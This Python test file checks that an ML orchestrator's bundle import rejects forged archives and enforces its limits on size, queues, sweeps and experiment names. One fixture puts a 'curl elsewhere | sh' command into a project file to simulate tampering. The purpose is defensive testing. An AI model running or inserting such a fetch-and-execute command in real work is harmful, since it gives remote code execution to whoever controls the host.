"""A bundle that somebody hostile wrote, with digests that are right, takes nobody's place and no more room than it may."""

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from tests.api.conftest import Gateway, packed
from tests.api.test_bundles import attacked, bring, entries_of, export, nothing_is_there, sealed
from tests.api.test_manifests import PROJECT, introduce, metric
from tiltyard_orchestrator.bundle.framing import BundleRefused, Opened, open_bundle
from tiltyard_orchestrator.bundle.judging import entry_of, judge
from tiltyard_orchestrator.bundle.room import Room
from tiltyard_orchestrator.storage.archives import archive_key

FORGED = packed(MLproject=PROJECT.replace("python", "curl elsewhere | sh # python"))


async def forged(gateway: Gateway) -> tuple[str, bytes]:
    """An archive, and a bundle that has other bytes under its name."""
    await attacked(gateway, 0.1)
    entries = entries_of(await export(gateway))
    (archive,) = json.loads(entries["bundle.json"])["archives"]
    return archive, sealed(entries | {f"blobs/{archive}": FORGED})


async def test_bytes_under_another_digest_than_theirs_are_refused(
    gateway: Gateway, elsewhere: Gateway
) -> None:
    archive, bundle = await forged(gateway)
    answer = await bring(elsewhere, bundle)
    assert (answer.status_code, answer.json()["code"]) == (422, "bad_bundle"), answer.text
    assert (await elsewhere.user.get(f"/archives/{archive}")).status_code == 404
    assert await elsewhere.parts.store.size(archive_key(archive)) is None
    assert await nothing_is_there(elsewhere)


async def test_an_archive_that_is_here_keeps_its_bytes(gateway: Gateway, elsewhere: Gateway) -> None:
    archive, bundle = await forged(gateway)
    key = archive_key(archive)
    honest = b"".join([piece async for piece in gateway.parts.store.read(key)])
    assert await elsewhere.upload(honest) == archive
    await bring(elsewhere, bundle, **{"as": "another"})
    assert b"".join([piece async for piece in elsewhere.parts.store.read(key)]) == honest


def test_what_is_taken_out_of_a_bundle_is_what_it_is_called_by(tmp_path: Path) -> None:
    (tmp_path / "bundle").write_bytes(b"other bytes")
    name = f"blobs/{hashlib.sha256(b'these bytes').hexdigest()}"
    opened: Any = Opened(path=tmp_path / "bundle", digest="", index=None, places={name: (0, 11)})  # type: ignore[arg-type]
    with pytest.raises(BundleRefused, match="not called by its digest"):
        opened.extract(name, tmp_path / "out")


@pytest.mark.parametrize(("what", "most"), [("MOST_FILES", 1), ("MOST_BYTES", 20), ("MOST_KEPT", 2_000)])
async def test_a_bundle_as_a_whole_comes_to_no_more_than_it_may(
    gateway: Gateway, elsewhere: Gateway, monkeypatch: pytest.MonkeyPatch, what: str, most: int
) -> None:
    first = await attacked(gateway, 0.1)
    alone = await export(gateway)
    await attacked(gateway, 0.2)
    both = await export(gateway)
    monkeypatch.setattr(f"tiltyard_orchestrator.bundle.room.{what}", most)
    answer = await bring(elsewhere, both)
    assert (answer.status_code, answer.json()["code"]) == (422, "bundle_too_large"), answer.text
    assert await nothing_is_there(elsewhere)
    assert (await bring(elsewhere, alone)).status_code == 201
    assert (await elsewhere.user.get(f"/jobs/{first.job}")).is_success


async def test_of_a_metric_that_was_told_often_one_value_is_kept(gateway: Gateway, tmp_path: Path) -> None:
    claim = await gateway.running()
    await gateway.report(claim, *(metric("loss", 1 / step, step) for step in range(1, 50)))
    await gateway.finish(claim, exit_code=0)
    (tmp_path / "bundle").write_bytes(await export(gateway))
    judged = judge(open_bundle(tmp_path / "bundle"), entry_of(claim.job), {}, Room())
    assert [event.data["step"] for event in judged.told] == [49]


async def test_an_environment_has_a_largest_size(
    gateway: Gateway, elsewhere: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    await introduce(gateway)
    await attacked(gateway, 0.1)
    monkeypatch.setattr("tiltyard_api.bundles.plan.LARGEST_ENVIRONMENT", 10)
    answer = await bring(elsewhere, await export(gateway))
    assert (answer.status_code, answer.json()["code"]) == (422, "bad_bundle")
    assert "too large for an environment" in answer.json()["errors"][0]["detail"]


async def test_a_bundle_makes_few_queues(
    gateway: Gateway, elsewhere: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    for queue in ("jax", "quantum"):
        await gateway.user.post("/queues", json={"name": queue})
        await gateway.user.post(f"/jobs/{(await gateway.submit(queue=queue)).id}/cancel")
    monkeypatch.setattr("tiltyard_api.bundles.plan.MOST_NEW_QUEUES", 1)
    answer = await bring(elsewhere, await export(gateway))
    assert (answer.status_code, answer.json()["code"]) == (422, "too_many_queues"), answer.text
    await elsewhere.user.post("/queues", json={"name": "jax"})
    assert (await bring(elsewhere, await export(gateway))).status_code == 201


async def swept(gateway: Gateway) -> tuple[dict[str, Any], str, list[str]]:
    """What a sweep was asked for, its id, and its jobs, which have ended."""
    archive = await gateway.upload(packed(MLproject=PROJECT))
    asked = {"experiment": "digits", "archive": archive, "axes": [{"parameter": "eps", "values": [0.1, 0.2]}]}
    sweep = (await gateway.user.post("/sweeps", json=asked)).json()["id"]
    jobs = [cell["job"] for cell in (await gateway.user.get(f"/sweeps/{sweep}/cells")).json()["items"]]
    for job in jobs:
        await gateway.finish(await gateway.claim(job))
    return asked, sweep, jobs


async def test_a_sweep_believes_no_result_that_a_bundle_brought(gateway: Gateway, elsewhere: Gateway) -> None:
    asked, _, jobs = await swept(gateway)
    assert (await bring(elsewhere, await export(gateway))).status_code == 201
    again = (await elsewhere.user.post("/sweeps", json=asked)).json()
    told = (await elsewhere.user.get(f"/sweeps/{again['id']}/cells")).json()["items"]
    assert again["reused"] == 0
    assert not set(jobs) & {cell["job"] for cell in told}


async def test_an_experiment_that_came_about_here_is_written_to_by_no_bundle(
    gateway: Gateway, elsewhere: Gateway
) -> None:
    first = await attacked(gateway, 0.1)
    await bring(elsewhere, await export(gateway))
    await attacked(elsewhere, 0.2)
    back = await export(elsewhere)
    answer = await bring(gateway, back)
    assert (answer.status_code, answer.json()["code"]) == (409, "name_taken"), answer.text
    found = (await gateway.user.get("/jobs", params={"experiment": "digits"})).json()["items"]
    assert [job["id"] for job in found] == [first.job]
    assert (await bring(gateway, back, **{"as": "elsewhere"})).json()["imported"] == 1


async def test_a_job_is_of_no_sweep_that_its_bundle_has_not_got(gateway: Gateway, elsewhere: Gateway) -> None:
    _, sweep, jobs = await swept(gateway)
    entries = entries_of(await export(gateway))
    del entries["sweeps.jsonl"]
    assert sweep.encode() in entries[f"jobs/{jobs[0]}.jsonl"]
    assert (await bring(elsewhere, sealed(entries))).status_code == 201
    assert [(await elsewhere.user.get(f"/jobs/{job}")).json()["sweep"] for job in jobs] == [None, None]
